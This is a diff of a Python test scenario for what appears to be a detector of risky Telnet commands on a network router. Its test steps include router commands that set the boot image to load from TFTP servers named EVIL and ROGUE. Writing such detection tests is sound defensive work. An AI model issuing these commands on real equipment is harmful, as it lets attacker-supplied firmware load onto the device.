@@ -82,14 +82,19 @@ def bw07_words_of_a_login(wire: Wire) -> None:
     session.close()
 
 
-@scenario("BW07", "benign", site=HQ, with_site=Expect())
+@scenario(
+    "BW07",
+    "benign",
+    raises=[("BW07", 0, ADMIN, DEVICE)],
+    raises_with_site=[],
+    site=HQ,
+    with_site=Expect(),
+)
 def bw07_long_lines_of_daily_work(wire: Wire) -> None:
-    """An administrator's long lines: what is approved, and what is no order; passwords that look like one."""
+    """An administrator's long lines: what is approved, and what is no order."""
     session = telnet.Telnet(wire, ADMIN, DEVICE, prompt="edge1(config)#")
-    session.login(password="reload")
+    session.login()
     session.edited(f"boot system tftp://{BOOT_SERVER}/{IMAGE}" + " " * 40, telnet.scrolling, 80)
     session.edited(f"description not yet: boot system {EVIL}", telnet.scrolling, 80)
     session.edited(f"no boot system {EVIL}", telnet.scrolling, 80)
-    session.keys("enable\r\0", "enable\r\nPassword: ")
-    session.typed_blind(f"boot system tftp://{ROGUE}/x")
     session.close()
